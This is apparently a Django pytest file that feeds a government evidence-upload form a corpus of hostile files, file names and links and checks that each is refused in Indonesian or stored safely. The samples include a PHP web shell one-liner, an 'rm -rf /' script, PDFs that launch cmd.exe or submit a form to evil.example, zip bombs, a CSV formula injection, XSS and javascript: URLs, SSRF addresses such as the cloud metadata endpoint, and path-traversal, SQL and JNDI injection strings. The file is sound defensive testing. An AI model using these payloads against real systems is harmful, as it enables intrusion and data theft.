"""The upload corpus of issue 13: hostile and awkward files and links, generated here, posted through the real
evidence view by an innovator.

Every answer must be below 500; every refusal must carry its reason in Indonesian; every accepted file must be
stored under a safe name with the extension and type its content has, and must pass the checks again when read
back from storage. Each sample also says whether it is accepted, so a loosened check shows up as a failure.
"""

import io
import re
import unicodedata
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.core.files import File
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from registry.evidence_checks import check_upload
from registry.models import Evidence
from tests.conftest import client_for
from tests.registry.test_evidence_views import MultipartBody
from tests.registry.upload_samples import JPEG, JS_ACTION, MP4, PNG, VALID_PDF, one_page, pdf

pytestmark = pytest.mark.django_db

MB = 1024 * 1024
METADATA = {"document_number": "7/2023", "document_date": "2023-04-02", "subject": "SK Inovasi"}
FILE_CODE = "SID-25"  # photo, screenshot, PDF or link
VIDEO_CODE = "SID-35"  # video, link or photo
STORED_TYPES = {
    "application/pdf": (".pdf",),
    "image/jpeg": (".jpg", ".jpeg"),
    "image/png": (".png",),
    "video/mp4": (".mp4",),
}
# Words every Indonesian refusal of the evidence form uses at least one of; the English ones it must not use.
INDONESIAN = re.compile(r"\b(Berkas|berkas|Tautan|tautan|unggah|Pilih|Alamat|alamat|Pastikan)\b")
ENGLISH = re.compile(r"\b(The file|The link|upload it|Choose a file)\b")


@dataclass(frozen=True)
class Sample:
    id: str
    name: str
    content: bytes
    accepted: bool
    code: str = FILE_CODE


def _pdfs() -> list[Sample]:
    ok, no = [], []
    accepted = {
        "pdf-plain": VALID_PDF,
        "pdf-object-streams": one_page(packed=[1, 2, 3]),
        "pdf-1.3": one_page(header=b"%PDF-1.3"),
        "pdf-header-after-junk": bytes(500) + VALID_PDF,
        "pdf-open-at-page": one_page(catalog=b" /OpenAction [3 0 R /Fit]"),
        "pdf-goto-action": one_page(b"<< /S /GoTo /D [3 0 R /Fit] >>", catalog=b" /OpenAction 4 0 R"),
        "pdf-web-link": one_page(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://pareparekota.go.id/) >> >>",
            page=b" /Annots [4 0 R]",
        ),
        "pdf-info": one_page(
            b"<< /Title (SK Inovasi) /Producer (Microsoft Word) >>", trailer=b" /Info 4 0 R"
        ),
        "pdf-javascript-as-text": one_page(
            b"<< /Length 30 >>\nstream\nBT (JavaScript) Tj ET\nendstream", page=b" /Contents 4 0 R"
        ),
        "pdf-incremental": VALID_PDF + b"% updated\n" + VALID_PDF,
        # An object stream that names itself as its parent: pypdf and viewers ignore /Extends when reading.
        "pdf-objstm-extends-itself": one_page(packed=[1, 2, 3]).replace(
            b"/Type /ObjStm", b"/Type /ObjStm /Extends 4 0 R"
        ),
    }
    for size in (1, 100, 4096, 70_000, 2 * MB):
        accepted[f"pdf-nul-padding-{size}"] = VALID_PDF + bytes(size)
    for padding in (b"\r\n", b"\n" * 500, b" \t\x00\r\n" * 300, b"\x0c"):
        accepted[f"pdf-padding-{len(padding)}"] = VALID_PDF + padding
    ok = [Sample(key, f"{key}.pdf", value, True) for key, value in accepted.items()]

    active = {
        "openaction-js": one_page(JS_ACTION, catalog=b" /OpenAction 4 0 R"),
        "names-js": one_page(
            b"<< /Names [(a) 5 0 R] >>", JS_ACTION, catalog=b" /Names << /JavaScript 4 0 R >>"
        ),
        "names-js-escaped": one_page(
            b"<< /Names [(a) 5 0 R] >>", JS_ACTION, catalog=b" /Names << /#4a#61vaScript 4 0 R >>"
        ),
        "catalog-aa": one_page(b"<< /WC << /S /GoTo /D [3 0 R /Fit] >> >>", catalog=b" /AA 4 0 R"),
        "page-aa": one_page(b"<< /O << /S /GoTo /D [3 0 R /Fit] >> >>", page=b" /AA 4 0 R"),
        "link-js": one_page(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 5 0 R >>", JS_ACTION, page=b" /Annots [4 0 R]"
        ),
        "launch": one_page(
            b"<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\cmd.exe) >>", catalog=b" /OpenAction 4 0 R"
        ),
        "launch-escaped": one_page(b"<< /S /L#61unch /F (cmd.exe) >>", catalog=b" /OpenAction 4 0 R"),
        "gotor": one_page(
            b"<< /S /GoToR /F (\\\\\\\\server\\\\share\\\\x.pdf) /D [0 /Fit] >>",
            catalog=b" /OpenAction 4 0 R",
        ),
        "gotoe": one_page(b"<< /S /GoToE /T << /R /C /N (a) >> >>", catalog=b" /OpenAction 4 0 R"),
        "submitform": one_page(
            b"<< /S /SubmitForm /F (https://evil.example/) >>", catalog=b" /OpenAction 4 0 R"
        ),
        "importdata": one_page(b"<< /S /ImportData /F (data.fdf) >>", catalog=b" /OpenAction 4 0 R"),
        "rendition": one_page(b"<< /S /Rendition /OP 0 >>", catalog=b" /OpenAction 4 0 R"),
        "embedded-files": one_page(
            b"<< /Names [(a.exe) 5 0 R] >>",
            b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
            catalog=b" /Names << /EmbeddedFiles 4 0 R >>",
        ),
        "file-attachment-annot": one_page(
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (x.zip) >> >>",
            page=b" /Annots [4 0 R]",
        ),
        "richmedia": one_page(
            b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>", page=b" /Annots [4 0 R]"
        ),
        "screen": one_page(b"<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] >>", page=b" /Annots [4 0 R]"),
        "3d": one_page(b"<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] >>", page=b" /Annots [4 0 R]"),
        "sound": one_page(b"<< /Type /Annot /Subtype /Sound /Rect [0 0 9 9] >>", page=b" /Annots [4 0 R]"),
        "xfa": one_page(
            b"<< /Fields [] /XFA 5 0 R >>",
            b"<< /Length 0 >>\nstream\n\nendstream",
            catalog=b" /AcroForm 4 0 R",
        ),
    }
    for key, value in list(active.items()):
        objects = value.count(b" 0 obj\n")
        # The same again with everything but the page tree packed into a compressed object stream, where no
        # byte search can see it: only the parsed structure shows what it holds.
        active[f"{key}-packed"] = _repack(key, objects)
    no += [Sample(f"active-{key}", f"{key}.pdf", value, False) for key, value in active.items()]

    encrypted = one_page(
        b"<< /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>", trailer=b" /Encrypt 4 0 R /ID [<ab> <ab>]"
    )
    no += [
        Sample("encrypted", "rahasia.pdf", encrypted, False),
        Sample("encrypted-encr#79pt", "rahasia.pdf", encrypted.replace(b"/Encrypt", b"/Encr#79pt"), False),
        Sample(
            "encrypted-all-escaped",
            "rahasia.pdf",
            encrypted.replace(b"/Encrypt", b"/#45#6E#63#72#79#70#74"),
            False,
        ),
        Sample(
            "encrypted-xref-stream",
            "rahasia.pdf",
            one_page(b"<< /Filter /Standard /V 1 /R 2 >>", trailer=b" /Encr#79pt 4 0 R", packed=[1, 2, 3]),
            False,
        ),
    ]
    broken = {
        "ten-bytes": b"%PDF-%%EOF",
        "header-html": b"%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n%%EOF\n",
        "header-svg": b"%PDF-1.4\n<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\n%%EOF",
        "header-nul": b"%PDF-1.7\n" + bytes(5000) + b"%%EOF",
        "no-xref": b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
        "truncated": VALID_PDF[: VALID_PDF.index(b"xref")],
        "no-pages": pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"),
        "no-catalog": pdf(b"<< /Type /Pages /Kids [] /Count 0 >>"),
        "pdf-then-html": VALID_PDF + b"<html><script>alert(document.cookie)</script></html>",
        "pdf-then-zip": VALID_PDF + _zip({"x.exe": b"MZ" + bytes(100)}),
        "pdf-then-comment": VALID_PDF + b"% trailing comment\n" * 300,
        "deep-nesting": one_page(b"[" * 100_000 + b"]" * 100_000, page=b" /X 4 0 R"),
        "object-stream-bomb": one_page(b"<< /F (" + b"A" * (64 * MB) + b") >>", packed=[2, 3, 4]),
        "html-then-pdf": b"<html><script>alert(1)</script></html>\n" + VALID_PDF,
    }
    no += [Sample(f"broken-{key}", f"{key}.pdf", value, False) for key, value in broken.items()]
    return ok + no


def _repack(key: str, objects: int) -> bytes:
    """The active sample `key` rebuilt with objects 1 and 4 onwards in an object stream."""
    builders = {
        "openaction-js": lambda **o: one_page(JS_ACTION, catalog=b" /OpenAction 4 0 R", **o),
        "names-js": lambda **o: one_page(
            b"<< /Names [(a) 5 0 R] >>", JS_ACTION, catalog=b" /Names << /JavaScript 4 0 R >>", **o
        ),
    }
    build = builders.get(key)
    if build is None:
        return _ACTIVE_BUILDERS[key]()
    return build(packed=[1, *range(4, objects + 1)])


def _packed(*extra, **parts):
    return lambda: one_page(*extra, packed=[1, 3, *range(4, 4 + len(extra))], **parts)


_ACTIVE_BUILDERS = {
    "names-js-escaped": _packed(
        b"<< /Names [(a) 5 0 R] >>", JS_ACTION, catalog=b" /Names << /#4a#61vaScript 4 0 R >>"
    ),
    "catalog-aa": _packed(b"<< /WC << /S /GoTo /D [3 0 R /Fit] >> >>", catalog=b" /AA 4 0 R"),
    "page-aa": _packed(b"<< /O << /S /GoTo /D [3 0 R /Fit] >> >>", page=b" /AA 4 0 R"),
    "link-js": _packed(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 5 0 R >>", JS_ACTION, page=b" /Annots [4 0 R]"
    ),
    "launch": _packed(b"<< /S /Launch /F (cmd.exe) >>", catalog=b" /OpenAction 4 0 R"),
    "launch-escaped": _packed(b"<< /S /L#61unch /F (cmd.exe) >>", catalog=b" /OpenAction 4 0 R"),
    "gotor": _packed(b"<< /S /GoToR /F (x.pdf) /D [0 /Fit] >>", catalog=b" /OpenAction 4 0 R"),
    "gotoe": _packed(b"<< /S /GoToE /T << /R /C /N (a) >> >>", catalog=b" /OpenAction 4 0 R"),
    "submitform": _packed(b"<< /S /SubmitForm /F (https://evil.example/) >>", catalog=b" /OpenAction 4 0 R"),
    "importdata": _packed(b"<< /S /ImportData /F (data.fdf) >>", catalog=b" /OpenAction 4 0 R"),
    "rendition": _packed(b"<< /S /Rendition /OP 0 >>", catalog=b" /OpenAction 4 0 R"),
    "embedded-files": _packed(
        b"<< /Names [(a.exe) 5 0 R] >>",
        b"<< /Type /Filespec /F (a.exe) /EF << /F 3 0 R >> >>",
        catalog=b" /Names << /EmbeddedFiles 4 0 R >>",
    ),
    "file-attachment-annot": _packed(
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (x.zip) >> >>",
        page=b" /Annots [4 0 R]",
    ),
    "richmedia": _packed(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>", page=b" /Annots [4 0 R]"),
    "screen": _packed(b"<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] >>", page=b" /Annots [4 0 R]"),
    "3d": _packed(b"<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] >>", page=b" /Annots [4 0 R]"),
    "sound": _packed(b"<< /Type /Annot /Subtype /Sound /Rect [0 0 9 9] >>", page=b" /Annots [4 0 R]"),
    "xfa": _packed(b"<< /Fields [] /XFA [(x) 3 0 R] >>", catalog=b" /AcroForm 4 0 R"),
}


def _zip(members: dict, *, level=9) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _others() -> list[Sample]:
    html = b"<!DOCTYPE html><html><body><script>fetch('/accounts/password_change/')</script></body></html>"
    zip_bomb = _zip({f"{n}.bin": bytes(20 * MB) for n in range(3)})
    nested_bomb = _zip({"inner.zip": zip_bomb, "readme.txt": b"x"})
    samples = [
        Sample("png", "foto.png", PNG, True),
        Sample("jpeg", "foto.jpg", JPEG, True),
        Sample("jpeg-upper", "FOTO RAPAT.JPEG", JPEG, True),
        Sample(
            "jpeg-then-html", "poliglot.jpg", JPEG + html, True
        ),  # stored as an image: served image/jpeg, sandboxed
        Sample("png-then-html", "poliglot.png", PNG + html, True),
        Sample(
            "jpeg-comment-script",
            "komentar.jpg",
            JPEG[:20] + b"\xff\xfe\x00\x30<script>alert(1)</script>" + JPEG[20:],
            True,
        ),
        Sample("mp4", "video.mp4", MP4, True, VIDEO_CODE),
        Sample("mp4-on-pdf-indicator", "video.mp4", MP4, False),
        Sample(
            "mov", "video.mov", b"\x00\x00\x00\x14ftypqt  \x20\x05\x03\x00qt  " + bytes(64), False, VIDEO_CODE
        ),
        Sample(
            "heic", "IMG_0001.HEIC", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(64), False
        ),
        Sample("empty", "kosong.pdf", b"", False),
        Sample("exe", "laporan.pdf", b"MZ\x90\x00" + bytes(200), False),
        Sample("exe-named-exe", "setup.exe", b"MZ\x90\x00" + bytes(200), False),
        Sample("elf", "foto.jpg", b"\x7fELF\x02\x01\x01" + bytes(64), False),
        Sample("macho", "foto.png", b"\xcf\xfa\xed\xfe\x07" + bytes(64), False),
        Sample("shebang", "run.pdf", b"#!/bin/sh\nrm -rf /\n", False),
        Sample("php", "shell.php.jpg", b"<?php system($_GET['c']); ?>", False),
        Sample("jar", "app.jar", _zip({"META-INF/MANIFEST.MF": b"Main-Class: X\n"}), False),
        Sample("docx", "proposal.docx", _zip({"[Content_Types].xml": b"<Types/>"}), False),
        Sample("zip-bomb", "bukti.zip", zip_bomb, False),
        Sample("nested-zip-bomb", "bukti.pdf", nested_bomb, False),
        Sample("ole2-doc", "anggaran.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64), False),
        Sample("html", "laporan.html", html, False),
        Sample("html-named-pdf", "laporan.pdf", html, False),
        Sample("html-bom-spaces", "laporan.pdf", b"\xef\xbb\xbf \n\t" + html, False),
        Sample("svg", "logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', False),
        Sample(
            "svg-named-png",
            "logo.png",
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
            False,
        ),
        Sample(
            "xhtml", "a.xhtml", b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>', False
        ),
        Sample("text", "catatan.pdf", b"Laporan kegiatan\n", False),
        Sample("csv", "data.csv", b"=cmd|' /C calc'!A0,1\n", False),
        Sample("rtf", "surat.rtf", b"{\\rtf1\\ansi hello}", False),
        Sample("gif", "animasi.gif", b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + bytes(32), False),
        Sample("gifar", "animasi.gif", b"GIF89a" + bytes(32) + _zip({"a.class": b"\xca\xfe"}), False),
        Sample("bmp", "foto.bmp", b"BM" + bytes(64), False),
        Sample("webp", "foto.webp", b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(32), False),
        Sample("png-named-pdf", "sk.pdf", PNG, False),
        Sample("pdf-named-jpg", "foto.jpg", VALID_PDF, False),
        Sample("pdf-named-html", "laporan.html", VALID_PDF, False),
        Sample("pdf-no-extension", "laporan", VALID_PDF, False),
        Sample("pdf-double-extension-exe", "laporan.pdf.exe", VALID_PDF, False),
    ]
    return samples


NAMES = [
    ("é" * 296 + ".pdf", "long-accented"),
    ("😀" * 120 + ".pdf", "long-emoji"),
    ("😀.pdf", "emoji"),
    ("a" * 1000 + ".pdf", "very-long"),
    ("../../../../etc/passwd.pdf", "traversal"),
    ("..\\..\\..\\windows\\system32\\drivers.pdf", "traversal-backslash"),
    ("/etc/shadow.pdf", "absolute"),
    ("C:\\Users\\staf\\Dokumen\\sk.pdf", "windows-path"),
    ("....pdf", "dots"),
    (".htaccess.pdf", "leading-dot"),
    ("..pdf", "two-dots"),
    ("lap\x00oran.pdf", "nul"),
    ("lap\x00.exe\x00.pdf", "nul-extension"),
    ("laporan\u202efdp.exe.pdf", "rtl-override"),
    ("\u202dlaporan\u2066.pdf", "bidi-isolates"),
    ("lap\u200boran\u2028.pdf", "zero-width-and-line-separator"),
    ("CON.pdf", "reserved-con"),
    ("nul.pdf", "reserved-nul"),
    ("COM1.pdf", "reserved-com1"),
    ("LPT9.tar.pdf", "reserved-lpt9"),
    ("aux .pdf", "reserved-aux-space"),
    ('lap"or<a>n|?*:.pdf', "windows-forbidden"),
    ("laporan%2e%2e%2fx.pdf", "percent-encoded"),
    ("雅加达报告.pdf", "chinese"),
    ("تقرير.pdf", "arabic"),
    ("Laporan Akhir 2024 (final) – salinan.pdf", "spaces-dash"),
    ("SK BUPATI.PDF", "upper-extension"),
    ("<script>alert(1)</script>.pdf", "markup-in-name"),
    ("'; DROP TABLE registry_evidence; --.pdf", "sql-in-name"),
    ("${jndi:ldap://x}.pdf", "jndi-in-name"),
    ("x" * 60 + "é" * 60 + ".pdf", "mixed-long"),
]


def corpus() -> list[Sample]:
    samples = _pdfs() + _others()
    samples += [Sample(f"name-{key}", name, VALID_PDF, True) for name, key in NAMES]
    # A line break ends the part's header where it stands (browsers send it as %0D%0A): what is left of the
    # name, "lap, has no extension, and the refusal says so.
    samples.append(Sample("name-line-breaks", "lap\r\noran\t.pdf", VALID_PDF, False))
    return samples


LINKS = [
    # accepted
    ("https://pareparekota.go.id/berita/inovasi", True),
    ("HTTPS://Drive.Google.COM/file/d/1AbC/view?usp=sharing", True),
    ("http://36.66.10.20/laporan.pdf", True),
    ("https://www.youtube.com/watch?v=dQw4w9WgXcQ", True),
    ("https://xn--pareare-5ve.go.id/", True),  # an IDN as the address bar shows it
    ("https://x.go.id/a%20b%0d%0aSet-Cookie:x", True),
    ("https://inovasi.pareparekota.go.id:8443/a?b=1#c", True),
    ("https://pareparekota.go.id/" + "a" * 470, True),
    ("http://127.0.0.1.nip.io/", True),  # a public name: nothing is fetched, so nothing is reached
    ("https://x.go.id/<script>", False),
    # scripts, data and files
    ("javascript:alert(document.cookie)", False),
    ("JavaScript:alert(1)", False),
    (" javascript:alert(1)", False),
    ("java\tscript:alert(1)", False),
    ("java\nscript:alert(1)", False),
    ("jav&#x09;ascript:alert(1)", False),
    ("vbscript:msgbox(1)", False),
    ("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", False),
    ("data:image/svg+xml,<svg onload=alert(1)>", False),
    ("file:///etc/passwd", False),
    ("file://server/share/laporan.pdf", False),
    ("ftp://files.pareparekota.go.id/sk.pdf", False),
    ("mailto:bappeda@pareparekota.go.id", False),
    ("tel:+62421", False),
    ("blob:https://x.go.id/uuid", False),
    ("about:blank", False),
    ("chrome://settings", False),
    ("//pareparekota.go.id/a", False),
    ("www.pareparekota.go.id/a", False),
    ("https:pareparekota.go.id", False),
    ("https:/pareparekota.go.id", False),
    # local and internal addresses
    ("http://localhost:8000/admin/", False),
    ("http://LOCALHOST./", False),
    ("http://127.0.0.1/", False),
    ("http://127.1/", False),
    ("http://2130706433/", False),
    ("http://0x7f000001/", False),
    ("http://0177.0.0.1/", False),
    ("http://[::1]/", False),
    ("http://[::ffff:127.0.0.1]/", False),
    ("http://10.0.0.5/", False),
    ("http://192.168.1.1/router", False),
    ("http://172.16.5.4/", False),
    ("http://169.254.169.254/latest/meta-data/", False),
    ("http://100.64.0.1/", False),
    ("http://0.0.0.0:8000/", False),
    ("http://metadata.google.internal/", False),
    ("http://printer.local/", False),
    ("http://intranet/", False),
    ("http://server.lan/", False),
    # credentials, homographs, malformed
    ("https://pareparekota.go.id@evil.example/", False),
    ("https://admin:rahasia@x.go.id/", False),
    ("https://pаrepаrekota.go.id/", False),  # Cyrillic "а"
    ("https://раураl.com/", False),  # all Cyrillic
    ("https://bücher.de/", False),
    ("https://x.go.id\u202e/", False),
    ("https://x..go.id/", False),
    ("https://-x.go.id/", False),
    ("https://x.go.id:99999/", False),
    ("https://x.go.id/ laporan", False),
    ("https://pareparekota.go.id/" + "a" * 480, False),
    ("   ", False),
]


def _refusal_messages(response) -> list[str]:
    form = response.context["evidence_form"]
    return [str(message) for messages in form.errors.values() for message in messages]


def _stored_problems(item: Evidence) -> list[str]:
    problems = []
    base = item.file.name.rsplit("/", 1)[1]
    stem, _dot, extension = base.rpartition(".")
    if f".{extension}" not in STORED_TYPES.get(item.content_type, ()):
        problems.append(f"extension {extension!r} for {item.content_type}")
    if len(stem.encode()) > 108 or stem.startswith(".") or not stem:
        problems.append(f"stem {stem!r}")
    if any(unicodedata.category(char)[0] not in "LMN" and char not in "-_.()" for char in stem):
        problems.append(f"character in {stem!r}")
    if stem.split(".")[0].upper() in {
        "CON",
        "PRN",
        "AUX",
        "NUL",
        *(f"COM{d}" for d in range(10)),
        *(f"LPT{d}" for d in range(10)),
    }:
        problems.append(f"device name {stem!r}")
    return problems


@pytest.fixture(autouse=True)
def private_media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def test_upload_corpus_gives_no_server_error_and_stores_nothing_executable(entry, owner, settings):
    samples = corpus()
    assert len(samples) >= 150
    client = client_for(owner)
    client.raise_request_exception = False
    failures = []
    for sample in samples:
        before = set(Evidence.objects.values_list("pk", flat=True))
        response = client.post(
            reverse("entry_evidence_add", args=[entry.pk, sample.code]),
            {**METADATA, "file": SimpleUploadedFile(sample.name, sample.content)},
        )
        added = Evidence.objects.exclude(pk__in=before)
        if response.status_code >= 500:
            failures.append(f"{sample.id}: {response.status_code}")
        elif sample.accepted != (response.status_code == 302):
            failures.append(
                f"{sample.id}: answered {response.status_code}, expected accepted={sample.accepted}"
            )
        elif response.status_code == 302:
            item = added.get()
            failures += [f"{sample.id}: {problem}" for problem in _stored_problems(item)]
            served = client.get(reverse("evidence_file", args=[item.pk]))
            if (
                not served["Content-Security-Policy"].startswith("sandbox;")
                or served["Content-Type"] != item.content_type
            ):
                failures.append(
                    f"{sample.id}: served as {served['Content-Type']} with {served['Content-Security-Policy']}"
                )
        else:
            messages = _refusal_messages(response)
            if added.exists() or not messages:
                failures.append(f"{sample.id}: refused without a message or with a row")
            failures += [
                f"{sample.id}: not Indonesian: {message}"
                for message in messages
                if not INDONESIAN.search(message) or ENGLISH.search(message)
            ]
    assert failures == []

    # Read back from storage, every stored file passes the same checks and has an accepted type and extension.
    stored = [path for path in Path(settings.MEDIA_ROOT).rglob("*") if path.is_file()]
    assert len(stored) == sum(sample.accepted for sample in samples) == Evidence.objects.count()
    for path in stored:
        with path.open("rb") as handle:
            checked = check_upload(File(handle, name=path.name), ["pdf", "image", "video"])
        assert checked.extension == path.suffix
        assert not path.read_bytes().lstrip()[:5].lower().startswith((b"<", b"mz", b"\x7felf", b"#!", b"pk"))


def test_link_corpus_refuses_unsafe_links_in_indonesian(entry, owner):
    assert len(LINKS) >= 50
    client = client_for(owner)
    client.raise_request_exception = False
    failures = []
    for url, accepted in LINKS:
        before = Evidence.objects.count()
        response = client.post(
            reverse("entry_evidence_add", args=[entry.pk, FILE_CODE]), {**METADATA, "url": url}
        )
        if response.status_code >= 500 or accepted != (response.status_code == 302):
            failures.append(f"{url[:60]!r}: {response.status_code}")
        elif accepted:
            stored = Evidence.objects.latest("pk").url
            if not re.match(r"https?://[a-z0-9.:-]+(/|$|\?|#)", stored):
                failures.append(f"{url[:60]!r}: stored as {stored!r}")
        else:
            messages = _refusal_messages(response)
            if Evidence.objects.count() != before or not messages:
                failures.append(f"{url[:60]!r}: refused without a message or with a row")
            failures += [
                f"{url[:60]!r}: not Indonesian: {m}"
                for m in messages
                if not INDONESIAN.search(m) or ENGLISH.search(m)
            ]
    assert failures == []


@pytest.mark.parametrize(
    ("name", "head", "size", "code"),
    [
        ("besar.pdf", VALID_PDF, 500 * MB, FILE_CODE),
        ("video.mp4", MP4, 700 * MB, VIDEO_CODE),
        ("foto.jpg", JPEG, 40 * MB, FILE_CODE),
        ("bom.zip", b"PK\x03\x04", 300 * MB, FILE_CODE),
        ("tanpa-nama", b"\x00" * 16, 2 * 1024 * MB, FILE_CODE),
    ],
)
def test_oversized_bodies_are_refused_early_in_indonesian(entry, owner, name, head, size, code):
    body = MultipartBody(fields=METADATA, name=name, head=head, size=size)
    client = client_for(owner)
    client.raise_request_exception = False

    response = client.generic(
        "POST",
        reverse("entry_evidence_add", args=[entry.pk, code]),
        data=b"-",
        content_type=f"multipart/form-data; boundary={body.boundary}",
        **{"wsgi.input": body, "CONTENT_LENGTH": str(body.length)},
    )

    assert response.status_code == 413
    assert body.position <= 11 * MB  # an image stops at its 10 MB; the others at the start of the file
    messages = _refusal_messages(response)
    assert messages and all(INDONESIAN.search(m) and not ENGLISH.search(m) for m in messages)
    assert Evidence.objects.count() == 0
